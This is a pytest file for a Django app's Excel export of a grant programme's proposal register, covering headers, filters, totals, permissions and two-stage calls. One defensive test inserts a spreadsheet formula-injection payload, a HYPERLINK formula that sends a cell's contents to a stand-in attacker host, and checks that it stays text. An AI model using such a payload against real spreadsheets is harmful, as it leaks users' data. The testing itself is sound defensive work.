"""The register export: the officers' register of a programme, with the page's filters, as
an .xlsx file whose values are those of the database."""

from decimal import Decimal

import pytest
from django.utils import translation

from accounts.roles import Role
from indicators.models import FiscalYear, Funder, Programme, Technology
from proposals.models import (
    Proposal,
    ProposalMunicipality,
    ProposalStage,
    ProposalState,
    ProposalTechnology,
)
from reports import documents
from reports.excel import REGISTER
from reports.excel.register import build_register
from reports.excel.rules import may_export_register
from reviews.scoring.statistics import review_statistics
from tests.factories import CallFactory, MunicipalityFactory, ProposalFactory, UserFactory
from tests.helpers import ANONYMOUS, OUTSIDER
from tests.proposals.stages.builders import two_stage_call
from tests.reports.excel_helpers import (
    answers_of,
    cell_xml,
    column,
    data_of,
    decimal,
    excel_time,
    flat_queries,
    header_of,
    open_book,
    rows_of,
    sheet_xml,
)
from tests.reviews.reviewing.scoring_helpers import (
    make_call,
    proposal_in,
    reviewer_user,
    submitted_review,
)

pytestmark = pytest.mark.django_db

D = Decimal
S = ProposalState
HEADER_TH = [
    "เลขที่อ้างอิง",
    "ชื่อ (ภาษาไทย)",
    "ชื่อ (ภาษาอังกฤษ)",
    "หัวหน้าโครงการ",
    "หน่วยงาน",
    "ประกาศ",
    "สถานะ",
    "ยื่นเมื่อ",
    "งบประมาณที่ขอ (บาท)",
    "งบประมาณที่อนุมัติ (บาท)",
    "เทศบาลภาคี",
    "เทคโนโลยีที่ใช้",
    "การพิจารณา",
    "ค่าเฉลี่ย",
    "ค่าเฉลี่ยปรับมาตรฐาน",
]


def with_partners(proposal, *names):
    """Partner municipalities (the first is the lead) and the city database technology."""
    for position, name in enumerate(names):
        ProposalMunicipality.objects.create(
            proposal=proposal,
            municipality=MunicipalityFactory(name_th=name, name_en=f"Town {name}"),
            is_lead=position == 0,
        )
    technology, _created = Technology.objects.get_or_create(
        name_th="ระบบฐานข้อมูลเมือง", defaults={"name_en": "City database", "kind": "hard"}
    )
    ProposalTechnology.objects.create(proposal=proposal, technology=technology)
    return proposal


@pytest.fixture
def register(db):
    """A call with two proposals in review (reviewed), one approved, a draft, and a proposal
    of another programme's call."""
    call = make_call(code="SLC-2568")
    reviewers = [reviewer_user() for _n in range(2)]
    first = with_partners(
        proposal_in(call, amount=D("400000.50")), "เทศบาลนครลำปาง", "เทศบาลเมืองน่าน"
    )
    second = with_partners(proposal_in(call, amount=D("300000")), "เทศบาลเมืองพะเยา")
    approved = proposal_in(call, amount=D("250000"), state=S.APPROVED)
    Proposal.objects.filter(pk=approved.pk).update(approved_amount=D("200000.25"))
    for proposal, scores in ((first, (90, 70)), (second, (60, 80))):
        for reviewer, score in zip(reviewers, scores, strict=True):
            submitted_review(proposal, reviewer, score)
    ProposalFactory(call=call)  # a draft: never on the register
    other = CallFactory(parts=True, programme=_other_programme())
    proposal_in(other)
    return call


def _other_programme():
    programme = Programme.objects.create(
        code="OTHER", name_th="แผนงานอื่น", name_en="Other", funder=Funder.objects.first()
    )
    programme.fiscal_years.add(FiscalYear.objects.get(year_be=2568))
    return programme


def expected_rows(call, states=None):
    """The register's rows as the database says, newest submission first."""
    statistics = review_statistics(call).proposals
    proposals = (
        Proposal.objects.filter(call=call, sequence__isnull=False)
        .exclude(state=S.DRAFT)
        .select_related("lead", "call")
        .order_by("-submitted_at", "-pk")
    )
    rows = []
    for proposal in proposals:
        if states and proposal.state not in states:
            continue
        stats = statistics.get(proposal.pk)
        rows.append(
            [
                proposal.reference,
                proposal.title_th,
                proposal.title_en,
                proposal.lead.full_name_th,
                proposal.lead.organisation,
                call.code,
                str(S(proposal.state).label),
                excel_time(proposal.submitted_at),
                sum((line.amount for line in proposal.budget_lines.all()), D("0")),
                proposal.approved_amount,
                # an empty cell holds nothing
                "; ".join(m.municipality.name_th for m in proposal.municipalities.all()) or None,
                "; ".join(t.technology.name_th for t in proposal.technologies.all()) or None,
                stats.count if stats else 0,
                stats.mean if stats else None,
                stats.normalised_mean if stats else None,
            ]
        )
    return rows


def as_read(rows):
    """The rows of the file with its numbers as Decimals, to compare with the database."""
    numbers = {8, 9, 13, 14}
    return [
        [decimal(value) if index in numbers else value for index, value in enumerate(row)]
        for row in rows
    ]


def test_the_register_lists_the_programmes_submitted_proposals_as_the_database_says(
    register, officer
):
    output = build_register(register.programme, user=officer, options={})
    sheet = open_book(output)["ทะเบียนข้อเสนอโครงการ"]
    assert header_of(sheet) == HEADER_TH
    rows = as_read(data_of(sheet))
    assert rows == expected_rows(register)
    assert len(rows) == 3  # not the draft, not the other programme's proposal
    first = next(row for row in rows if row[8] == D("400000.50"))
    assert first[10] == "เทศบาลนครลำปาง; เทศบาลเมืองน่าน"  # the lead municipality first
    assert (first[12], first[13]) == (2, D("80.00"))
    assert (output.filename, output.format) == ("TEST-CALLS-register.xlsx", documents.XLSX)


def test_the_amounts_are_summed_by_formulas_and_formatted_as_money(register, officer):
    sheet = open_book(build_register(register.programme, user=officer, options={})).active
    assert rows_of(sheet)[-1][:10] == ["รวม", *[None] * 7, "=SUM(I2:I4)", "=SUM(J2:J4)"]
    assert sheet["I2"].number_format == "#,##0.00"
    assert sheet["H2"].number_format == "[$-107041E]d/m/yyyy hh:mm"
    assert sheet["M2"].number_format == "#,##0"
    assert sheet["N3"].number_format == "0.00"  # a reviewed proposal (row 2 has no review)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:O4"


def test_the_page_filters_choose_the_rows(register, officer):
    options = {"call": "SLC-2568", "state": S.APPROVED}
    sheet = open_book(build_register(register.programme, user=officer, options=options)).active
    assert as_read(data_of(sheet)) == expected_rows(register, states=[S.APPROVED])


def test_a_query_dict_of_the_register_page_works_as_options(register, officer, rf):
    request = rf.get("/proposals/register/", {"state": S.IN_REVIEW, "page": "2"})
    output = build_register(register.programme, user=officer, options=request.GET)
    assert len(data_of(open_book(output).active)) == 2


@pytest.mark.parametrize(
    "options",
    [{"state": "no-such-state"}, {"call": "no-such-call"}, {"call": "CALL-OTHER-PROGRAMME"}],
)
def test_an_invalid_filter_filters_nothing_as_on_the_page(register, officer, options):
    if options.get("call") == "CALL-OTHER-PROGRAMME":
        options = {"call": Proposal.objects.exclude(call=register).first().call.code}
    sheet = open_book(build_register(register.programme, user=officer, options=options)).active
    assert len(data_of(sheet)) == 3


def test_a_report_job_sees_how_far_the_register_got(register, officer, monkeypatch):
    monkeypatch.setattr("reports.excel.register.PROGRESS_EVERY", 1)
    seen = []
    build_register(register.programme, user=officer, options={}, progress=seen.append)
    assert seen == [0, 33, 66, 100]


def test_the_command_line_writes_every_proposal_of_the_programme(register):
    sheet = open_book(build_register(register.programme, user=None, options=None)).active
    assert as_read(data_of(sheet)) == expected_rows(register)


def test_a_programme_manager_gets_the_register_of_the_programme_they_manage(register, manager):
    register.programme.managers.add(manager)
    sheet = open_book(build_register(register.programme, user=manager, options={})).active
    assert len(data_of(sheet)) == 3


def test_headers_and_states_follow_the_language(register, officer):
    with translation.override("en"):
        sheet = open_book(build_register(register.programme, user=officer, options={})).active
        assert header_of(sheet)[:8] == [
            "Reference",
            "Title (Thai)",
            "Title (English)",
            "Lead researcher",
            "Organisation",
            "Call",
            "State",
            "Submitted at",
        ]
        assert sorted(set(column(sheet, "State"))) == ["Approved", "In review"]
        assert rows_of(sheet)[-1][0] == "Total"


def test_user_text_that_looks_like_a_formula_stays_text(register, officer):
    proposal = Proposal.objects.filter(call=register, state=S.IN_REVIEW).first()
    evil = '=HYPERLINK("http://evil.example/?x="&B2,"ดูรายละเอียด")'
    Proposal.objects.filter(pk=proposal.pk).update(title_th=evil, title_en="+1", keywords="")
    proposal.lead.organisation = "@SUM(1+1)"
    proposal.lead.save(update_fields=["organisation"])
    output = build_register(register.programme, user=officer, options={})
    sheet = open_book(output).active
    row = column(sheet, "เลขที่อ้างอิง").index(proposal.reference) + 2
    assert [sheet.cell(row, index).value for index in (2, 3, 5)] == [evil, "+1", "@SUM(1+1)"]
    xml = sheet_xml(output)
    for letter in "BCE":
        assert "<f>" not in cell_xml(xml, f"{letter}{row}")
    assert xml.count("<f>") == 2  # the two totals


def test_the_register_runs_the_same_queries_for_few_and_many_proposals(officer):
    call = make_call(code="SLC-2569")
    reviewer = reviewer_user()

    def make(count):
        for n in range(count):
            proposal = with_partners(
                proposal_in(call), f"เทศบาลตำบลทดสอบ{Proposal.objects.count()}-{n}"
            )
            submitted_review(proposal, reviewer, 70 + n)

    queries = flat_queries(
        lambda: build_register(call.programme, user=officer, options={"call": call.code}), make
    )
    # calls, proposals, municipalities, technologies, the call's reviewers' leniency (two
    # passes) and its reviews streamed in the rows' order
    assert queries == 7


def may_table(programme):
    manager_of_it = UserFactory(roles=[Role.PROGRAMME_MANAGER])
    programme.managers.add(manager_of_it)
    return manager_of_it


def test_who_may_have_the_register(register, personas):
    programme = register.programme
    manager_of_it = may_table(programme)
    answers = answers_of(may_export_register, programme, personas)
    assert answers == {
        Role.RESEARCHER.value: False,
        Role.FUNDING_OFFICER.value: True,
        Role.REVIEWER.value: False,
        Role.PROGRAMME_MANAGER.value: False,  # manages no programme here
        Role.ADMINISTRATOR.value: False,
        OUTSIDER: False,
        ANONYMOUS: False,
    }
    assert may_export_register(manager_of_it, programme)


def test_the_register_is_in_the_catalogue(register):
    assert documents.get("register", documents.XLSX) is REGISTER
    assert (REGISTER.scope, REGISTER.options, REGISTER.background) == (
        documents.PROGRAMME,
        ("call", "state"),
        False,
    )


def test_a_two_stage_call_has_a_stage_column_and_a_one_stage_call_leaves_it_empty(
    register, officer
):
    staged = two_stage_call(programme=register.programme, code="SLC-2568-C")
    first = proposal_in(staged, stage=ProposalStage.CONCEPT, amount=D("50000"))
    full = proposal_in(staged, stage=ProposalStage.FULL, amount=D("60000"))
    sheet = open_book(build_register(register.programme, user=officer, options={})).active
    assert header_of(sheet) == [*HEADER_TH[:6], "ระยะ", *HEADER_TH[6:]]
    stages = dict(zip(column(sheet, "เลขที่อ้างอิง"), column(sheet, "ระยะ"), strict=True))
    assert stages[first.reference] == "ข้อเสนอโครงการเบื้องต้น"
    assert stages[full.reference] == "ข้อเสนอโครงการฉบับเต็ม"
    one_stage = Proposal.objects.filter(call=register).exclude(state=S.DRAFT)
    assert {stages[proposal.reference] for proposal in one_stage} == {None}


def test_a_one_stage_register_has_no_stage_column(register, officer):
    options = {"call": register.code}
    sheet = open_book(build_register(register.programme, user=officer, options=options)).active
    assert "ระยะ" not in header_of(sheet)
    assert header_of(sheet) == HEADER_TH
